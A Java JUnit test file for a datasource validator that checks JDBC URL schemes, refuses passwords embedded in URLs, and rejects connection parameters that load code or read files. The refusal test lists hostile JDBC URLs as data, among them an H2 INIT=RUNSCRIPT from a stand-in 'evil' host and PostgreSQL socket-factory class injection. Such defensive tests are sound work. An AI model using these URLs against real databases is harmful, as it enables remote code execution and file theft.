package dev.lookout.datasource;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** The URL rules: four schemes, no password in the URL, no parameter that loads code or reads files. */
class DataSourceKindTest {

	@Test
	void kindComesFromTheScheme() {
		assertThat(DataSourceKind.ofUrl("jdbc:h2:mem:demo")).hasValue(DataSourceKind.H2);
		assertThat(DataSourceKind.ofUrl("jdbc:postgresql://db:5432/app")).hasValue(DataSourceKind.POSTGRESQL);
		assertThat(DataSourceKind.ofUrl("jdbc:mariadb://db/app")).hasValue(DataSourceKind.MARIADB);
		assertThat(DataSourceKind.ofUrl("jdbc:mysql://db/app")).hasValue(DataSourceKind.MYSQL);
		assertThat(DataSourceKind.ofUrl("jdbc:sqlserver://db")).isEmpty();
		assertThat(DataSourceKind.ofUrl("JDBC:H2:mem:demo")).isEmpty();
	}

	@ParameterizedTest
	@ValueSource(strings = { "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "jdbc:h2:mem:x;init =CREATE ALIAS",
			"jdbc:postgresql://db/app?socketFactory=org.example.Evil",
			"jdbc:postgresql://db/app?ssl=true&sslfactory=org.example.Evil",
			"jdbc:postgresql://db/app?authenticationPluginClassName=x", "jdbc:mariadb://db/app?allowLocalInfile=true",
			"jdbc:mysql://db/app?allowMultiQueries=true" })
	void parametersThatLoadCodeOrReadFilesAreRefused(String url) {
		assertThat(DataSourceKind.ofUrl(url).orElseThrow().refusal(url)).hasValueSatisfying(
				(refusal) -> assertThat(refusal).contains("must not set the parameter").doesNotContain("evil"));
	}

	@ParameterizedTest
	@ValueSource(strings = { "jdbc:postgresql://db/app?user=a&password=secret", "jdbc:h2:mem:x;PASSWORD=secret",
			"jdbc:mariadb://a:secret@db/app", "jdbc:mysql://db/app?Password=secret" })
	void passwordsInUrlsAreRefusedWithoutQuotingThem(String url) {
		assertThat(DataSourceKind.ofUrl(url).orElseThrow().refusal(url)).hasValueSatisfying(
				(refusal) -> assertThat(refusal).startsWith("jdbcUrl must not carry a password").doesNotContain("secret"));
	}

	@ParameterizedTest
	@ValueSource(strings = { "jdbc:postgresql://db:5432/app?ApplicationName=x&ssl=true", "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1",
			"jdbc:h2:tcp://localhost:9092/~/demo", "jdbc:mariadb://db:3306/app?useSsl=true" })
	void ordinaryUrlsPass(String url) {
		assertThat(DataSourceKind.ofUrl(url).orElseThrow().refusal(url)).isEmpty();
	}

	@Test
	void mysqlUrlsAreMarkedForTheMariaDbDriver() {
		assertThat(DataSourceKind.MYSQL.driverUrl("jdbc:mysql://db/app")).isEqualTo("jdbc:mysql://db/app?permitMysqlScheme");
		assertThat(DataSourceKind.MYSQL.driverUrl("jdbc:mysql://db/app?ssl=true"))
			.isEqualTo("jdbc:mysql://db/app?ssl=true&permitMysqlScheme");
		assertThat(DataSourceKind.MARIADB.driverUrl("jdbc:mariadb://db/app")).isEqualTo("jdbc:mariadb://db/app");
	}

}
